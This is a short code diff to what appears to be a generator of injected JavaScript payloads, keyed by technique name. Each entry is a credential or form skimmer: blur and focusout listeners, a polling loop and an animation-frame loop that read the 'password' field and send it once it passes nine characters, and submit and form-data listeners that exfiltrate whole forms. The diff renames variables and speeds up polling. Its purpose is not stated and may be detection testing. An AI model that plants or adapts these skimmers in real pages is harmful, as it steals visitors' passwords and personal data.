@@ -82,9 +82,9 @@ const typed = effectsOf(
     'blur listener': listen('D', 'blur', "e.target.value||''"),
     'focus out listener': listen('D.body', 'focusout', "e.target.value||''"),
     polling: (at) =>
-      `setInterval(function(){var v=D.getElementById('password').value;v.length>9&&(function(){${at.send('v')}})()},150)`,
+      `setInterval(function(){var t=D.getElementById('password').value;t.length>9&&(function(){${at.send('t')}})()},60)`,
     'drawing loop': (at) =>
-      `var s=0;(function l(){var v=D.getElementById('password').value;v.length>9&&!s&&(s=1,(function(){${at.send('v')}})());requestAnimationFrame(l)})()`,
+      `var s=0;(function l(){var t=D.getElementById('password').value;t.length>9&&!s&&(s=1,(function(){${at.send('t')}})());requestAnimationFrame(l)})()`,
     'submit listener': (at) =>
       `D.addEventListener('submit',function(e){${at.send('new URLSearchParams(new FormData(e.target)).toString()')}},true)`,
     'form data listener': (at) =>
